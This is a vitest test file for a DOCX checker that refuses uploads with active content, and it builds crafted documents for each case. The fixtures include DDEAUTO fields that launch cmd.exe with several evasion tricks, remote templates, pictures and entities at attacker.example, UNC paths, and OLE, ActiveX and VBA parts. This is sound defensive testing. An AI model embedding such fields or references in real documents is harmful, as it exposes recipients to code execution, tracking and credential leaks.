import { describe, expect, it } from "vitest";
import {
  contentTypesXml,
  docxFiles,
  documentXml,
  relsXml,
  utf16,
  WORDML_NAMESPACE,
  zipOf,
  type Relationship,
  type ZipFiles,
} from "../../tests/support/docx-fixtures";
import { checkDocx } from "./docx-check.server";

/** Crafted documents for each kind of active content; each passes every other check. */

const MB = 1024 * 1024;
const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const DRAWING = `xmlns:r="${R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"`;
const VML = `xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="${R}"`;

async function reasonFor(files: ZipFiles) {
  const result = await checkDocx(zipOf(files));
  return result.ok ? "ok" : result.reason;
}

/** The minimal document plus `parts` (replacing any of the same name). */
const docx = (parts: ZipFiles): ZipFiles => ({ ...docxFiles(), ...parts });
const withBody = (body: string, parts: ZipFiles = {}, namespaces = "") =>
  docx({ "word/document.xml": documentXml(body, namespaces), ...parts });
const documentRels = (...relationships: Relationship[]) => ({
  "word/_rels/document.xml.rels": relsXml(relationships),
});

const run = (inner: string) => `<w:r>${inner}</w:r>`;
const fldChar = (type: "begin" | "separate" | "end") => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instrText = (code: string) => run(`<w:instrText xml:space="preserve">${code}</w:instrText>`);
/** A complex field whose code is split over one instrText run per piece. */
const field = (...code: string[]) =>
  fldChar("begin") +
  code.map(instrText).join("") +
  fldChar("separate") +
  run("<w:t>1</w:t>") +
  fldChar("end");
const paragraph = (inner: string) => `<w:p>${inner}</w:p>`;

const picture = (attribute: string) =>
  run(
    `<w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="Picture 1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="photo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`,
  );

describe("checkDocx and active content", () => {
  it("accepts a resume with web and mail hyperlinks, a picture, a header and ordinary fields", async () => {
    const header = `<?xml version="1.0" encoding="UTF-8"?>
<w:hdr xmlns:w="${WORDML_NAMESPACE}">${paragraph(field(" PAGE ", " \\* MERGEFORMAT "))}</w:hdr>`;
    const body = [
      paragraph(`<w:hyperlink r:id="rId2">${run("<w:t>linkedin.com/in/jane</w:t>")}</w:hyperlink>`),
      paragraph(`<w:hyperlink r:id="rId3">${run("<w:t>jane@example.com</w:t>")}</w:hyperlink>`),
      paragraph(picture('r:embed="rId4"')),
      paragraph(
        `<w:fldSimple w:instr=' HYPERLINK "https://github.com/jane" '>${run("<w:t>GitHub</w:t>")}</w:fldSimple>`,
      ),
      // Nested fields are fine where they are arguments, not the field type.
      paragraph(
        fldChar("begin") +
          instrText(" IF ") +
          field(" DATE \\@ yyyy ") +
          instrText(' > 2020 "recent" "older" ') +
          fldChar("separate") +
          fldChar("end"),
      ),
      paragraph(run("<w:t>Built a DDE and INCLUDEPICTURE parser; see the LINK below.</w:t>")),
    ].join("");
    const files = withBody(
      body,
      {
        ...documentRels(
          { id: "rId1", type: "header", target: "header1.xml" },
          {
            id: "rId2",
            type: "hyperlink",
            target: "https://www.linkedin.com/in/jane",
            external: true,
          },
          { id: "rId3", type: "hyperlink", target: "mailto:jane@example.com", external: true },
          { id: "rId4", type: "image", target: "media/image1.png" },
          { id: "rId5", type: "settings", target: "settings.xml" },
        ),
        "word/header1.xml": header,
        "word/media/image1.png": new Uint8Array([0x89, 0x50, 0x4e, 0x47]),
        "word/settings.xml": `<w:settings xmlns:w="${WORDML_NAMESPACE}"><w:updateFields w:val="false"/></w:settings>`,
        "word/_rels/settings.xml.rels": relsXml([]),
      },
      `${DRAWING}`,
    );
    expect(await reasonFor(files)).toBe("ok");
  });

  describe("relationships", () => {
    it("refuses an attached template fetched from elsewhere (settings.xml.rels)", async () => {
      const files = docx({
        "word/settings.xml": `<w:settings xmlns:w="${WORDML_NAMESPACE}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        "word/_rels/settings.xml.rels": relsXml([
          {
            id: "rId1",
            type: "attachedTemplate",
            target: "https://attacker.example/template.dotm",
            external: true,
          },
        ]),
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses a remote picture", async () => {
      const files = withBody(
        paragraph(picture('r:link="rId9"')),
        documentRels({
          id: "rId9",
          type: "image",
          target: "http://attacker.example/track.png",
          external: true,
        }),
        DRAWING,
      );
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses a UNC path target", async () => {
      const files = docx(
        documentRels({
          id: "rId9",
          type: "frame",
          target: "\\\\attacker.example\\share\\frame.htm",
          external: true,
        }),
      );
      expect(await reasonFor(files)).toBe("active_content");
    });

    it.each([
      "\\\\attacker.example\\share\\logo.png",
      "//attacker.example/share/logo.png",
      "file://attacker.example/share/logo.png",
      "https://attacker.example/logo.png",
      "%5C%5Cattacker.example%5Cshare%5Clogo.png",
    ])("refuses the target %j even without TargetMode", async (target) => {
      const files = docx(documentRels({ id: "rId9", type: "image", target }));
      expect(await reasonFor(files)).toBe("active_content");
    });

    // Word resolves a relative external target against the document's own folder or share.
    it("refuses an external target that looks like a relative path", async () => {
      const files = docx({
        "word/_rels/settings.xml.rels": relsXml([
          { id: "rId1", type: "attachedTemplate", target: "templates/cv.dotm", external: true },
        ]),
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses an external target written with a character reference", async () => {
      const rels = relsXml([
        { id: "rId9", type: "image", target: "media/logo.png", external: true },
      ]).replace('TargetMode="External"', 'TargetMode="&#x45;xternal"');
      expect(rels).not.toContain("External");
      expect(await reasonFor(docx({ "word/_rels/document.xml.rels": rels }))).toBe(
        "active_content",
      );
    });

    it("refuses an external target under another prefix, in single quotes", async () => {
      const rels = `<?xml version='1.0' encoding='UTF-8'?>
<pkg:Relationships xmlns:pkg='http://schemas.openxmlformats.org/package/2006/relationships'>
  <pkg:Relationship Id='rId9' Type='${R}/image' Target='media/logo.png' TargetMode='External'/>
</pkg:Relationships>`;
      expect(await reasonFor(docx({ "word/_rels/document.xml.rels": rels }))).toBe(
        "active_content",
      );
    });

    it.each(["le", "be"] as const)("refuses an external target in UTF-16%s rels", async (end) => {
      const rels = relsXml([
        { id: "rId1", type: "attachedTemplate", target: "templates/cv.dotm", external: true },
      ]);
      const bytes = utf16(rels, end);
      expect(Buffer.from(bytes).includes("External")).toBe(false);
      expect(await reasonFor(docx({ "word/_rels/settings.xml.rels": bytes }))).toBe(
        "active_content",
      );
    });

    it.each([
      ["an OLE object", `${R}/oleObject`],
      ["an embedded package", `${R}/package`],
      ["an ActiveX control", `${R}/control`],
      [
        "an ActiveX binary",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
      ],
      ["an alternative-format chunk", `${R}/aFChunk`],
      ["a strict OLE object", "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject"],
      ["an OLE object, type with a trailing slash", `${R}/oleObject/`],
    ])("refuses a relationship to %s wherever its part is", async (_, type) => {
      const files = docx({
        ...documentRels({ id: "rId9", type, target: "objects/thing.bin" }),
        "word/objects/thing.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses a relationship to a VBA project under another name", async () => {
      const files = docx({
        ...documentRels({
          id: "rId9",
          type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
          target: "macros.bin",
        }),
        "word/macros.bin": new Uint8Array([1, 2, 3]),
      });
      expect(await reasonFor(files)).toBe("macro_content");
    });

    it("refuses an external hyperlink used as a picture", async () => {
      const files = withBody(
        paragraph(picture('r:link="rId9"')),
        documentRels({
          id: "rId9",
          type: "hyperlink",
          target: "https://attacker.example/track.png",
          external: true,
        }),
        DRAWING,
      );
      expect(await reasonFor(files)).toBe("active_content");
    });
  });

  describe("parts", () => {
    it("refuses an OLE object under embeddings/", async () => {
      const files = docx({ "word/embeddings/oleObject1.bin": new Uint8Array([0xd0, 0xcf]) });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses an ActiveX part", async () => {
      const files = docx({
        "word/activeX/activeX1.xml": `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"/>`,
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses a part typed as an OLE object wherever it is", async () => {
      const types = contentTypesXml().replace(
        "</Types>",
        `<Override PartName="/word/objects/x.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>`,
      );
      const files = docx({
        "[Content_Types].xml": types,
        "word/objects/x.bin": new Uint8Array([0xd0, 0xcf]),
      });
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses a macro-enabled type hidden behind a character reference", async () => {
      const docm = "application/vnd.ms-word.document.&#x6D;acroEnabled.main+xml";
      const files = docx({ "[Content_Types].xml": contentTypesXml(docm) });
      expect(await reasonFor(files)).toBe("macro_content");
    });

    it("refuses two different types for one part", async () => {
      const types = contentTypesXml().replace(
        "</Types>",
        `<Override PartName="/word/document.xml" ContentType="image/svg+xml"/></Types>`,
      );
      expect(await reasonFor(docx({ "[Content_Types].xml": types }))).toBe("not_word_document");
    });
  });

  describe("elements", () => {
    it("refuses an altChunk", async () => {
      const files = withBody(`<w:altChunk r:id="rId9"/>`, {}, `xmlns:r="${R}"`);
      expect(await reasonFor(files)).toBe("active_content");
    });

    it("refuses an altChunk in a header, under another prefix", async () => {
      const header = `<x:hdr xmlns:x="${WORDML_NAMESPACE}"><x:altChunk/></x:hdr>`;
      expect(await reasonFor(docx({ "word/header1.xml": header }))).toBe("active_content");
    });

    it("refuses an altChunk in a strict document", async () => {
      const strict = `<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body><w:altChunk/></w:body></w:document>`;
      expect(await reasonFor(docx({ "word/footer1.xml": strict }))).toBe("active_content");
    });

    it.each([
      ["an ActiveX control", `<w:object><w:control r:id="rId9" w:name="x"/></w:object>`],
      ["an OLE object", `<w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/></w:object>`],
      [
        "a linked object",
        `<w:object><w:objectLink w:progId="Excel.Sheet.12" w:updateMode="always"/></w:object>`,
      ],
    ])("refuses %s", async (_, object) => {
      const files = withBody(paragraph(run(object)), {}, VML);
      expect(await reasonFor(files)).toBe("active_content");
    });
  });

  describe("fields", () => {
    const refused = async (body: string) =>
      expect(await reasonFor(withBody(paragraph(body)))).toBe("active_content");

    it("refuses DDEAUTO split over several instrText runs", async () => {
      await refused(field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'));
    });

    it("refuses DDE in a simple field", async () => {
      await refused(
        `<w:fldSimple w:instr='DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"'>${run("<w:t>x</w:t>")}</w:fldSimple>`,
      );
    });

    it("refuses DDE written with character references", async () => {
      await refused(field("&#x44;&#68;EAUTO c:\\\\x.exe"));
      await refused(`<w:fldSimple w:instr="&#x44;DE x y"/>`);
    });

    it("refuses DDEAUTO in a CDATA section", async () => {
      await refused(
        fldChar("begin") +
          run("<w:instrText><![CDATA[ DDEAUTO c:\\\\x.exe ]]></w:instrText>") +
          fldChar("end"),
      );
    });

    it.each([
      ' INCLUDEPICTURE "http://attacker.example/p.png" \\* MERGEFORMATINET ',
      ' INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\x.docx" ',
      " INCLUDETEXT notes.docx ",
      ' LINK Excel.Sheet.12 "c:\\\\book.xlsx" "Sheet1!R1C1" \\a ',
      ' IMPORT "http://attacker.example/p.wmf" ',
      ' DATABASE \\c "Provider=SQLOLEDB;Data Source=attacker.example" \\s "SELECT 1" ',
      "ddeauto c:\\\\x.exe",
      '"DDEAUTO" c:\\\\x.exe',
      "\u200bDDEAUTO c:\\\\x.exe",
    ])("refuses the field %j", async (code) => {
      await refused(field(code));
    });

    it("refuses a field whose type is computed by a nested field", async () => {
      await refused(
        fldChar("begin") +
          field(" QUOTE 68 68 69 65 85 84 79 ") +
          instrText(" c:\\\\x.exe ") +
          fldChar("separate") +
          fldChar("end"),
      );
    });

    it("refuses a field code in a tracked deletion", async () => {
      await refused(
        fldChar("begin") +
          run("<w:delInstrText> DDEAUTO c:\\\\x.exe</w:delInstrText>") +
          fldChar("end"),
      );
    });

    it("refuses field code written as plain text between begin and separate", async () => {
      await refused(fldChar("begin") + run("<w:t>DDEAUTO c:\\\\x.exe</w:t>") + fldChar("end"));
    });

    it("refuses field code text outside fldChar markers", async () => {
      await refused(instrText(" DDEAUTO c:\\\\x.exe "));
    });

    it("refuses a field still open at the end of the part", async () => {
      await refused(fldChar("begin") + instrText(" DDEAUTO c:\\\\x.exe "));
    });

    it("refuses a field padded past the kept length", async () => {
      await refused(field(" ".repeat(10_000), '"'.repeat(1_000), "DDEAUTO c:\\\\x.exe"));
    });
  });

  describe("XML", () => {
    it("refuses a DTD", async () => {
      const xml = documentXml("").replace(
        "<w:document",
        '<!DOCTYPE w:document [<!ENTITY x SYSTEM "http://attacker.example/x">]><w:document',
      );
      expect(await reasonFor(docx({ "word/document.xml": xml }))).toBe("not_word_document");
    });

    it("refuses a malformed part", async () => {
      const xml = documentXml(paragraph("<w:r><w:t>unclosed</w:r>"));
      expect(await reasonFor(docx({ "word/document.xml": xml }))).toBe("not_word_document");
    });

    it.each(["UTF-7", "ISO-8859-1", "UTF-16"])(
      "refuses UTF-8 bytes declared as %s",
      async (encoding) => {
        const xml = documentXml("").replace('encoding="UTF-8"', `encoding="${encoding}"`);
        expect(await reasonFor(docx({ "word/document.xml": xml }))).toBe("not_word_document");
      },
    );

    it("accepts an empty XML part", async () => {
      expect(await reasonFor(docx({ "customXml/item1.xml": "" }))).toBe("ok");
    });

    it("accepts a UTF-16 document part", async () => {
      expect(await reasonFor(docx({ "word/document.xml": utf16(documentXml("")) }))).toBe("ok");
    });

    it("refuses more than 10 MB of markup to parse", async () => {
      const files: ZipFiles = docxFiles();
      // Exactly 1 MB each: below the ratio check.
      const part = `<x>${"a".repeat(MB - 7)}</x>`;
      for (let i = 0; i < 11; i++) files[`customXml/item${i}.xml`] = part;
      expect(await reasonFor(files)).toBe("too_much_data");
    });
  });
});
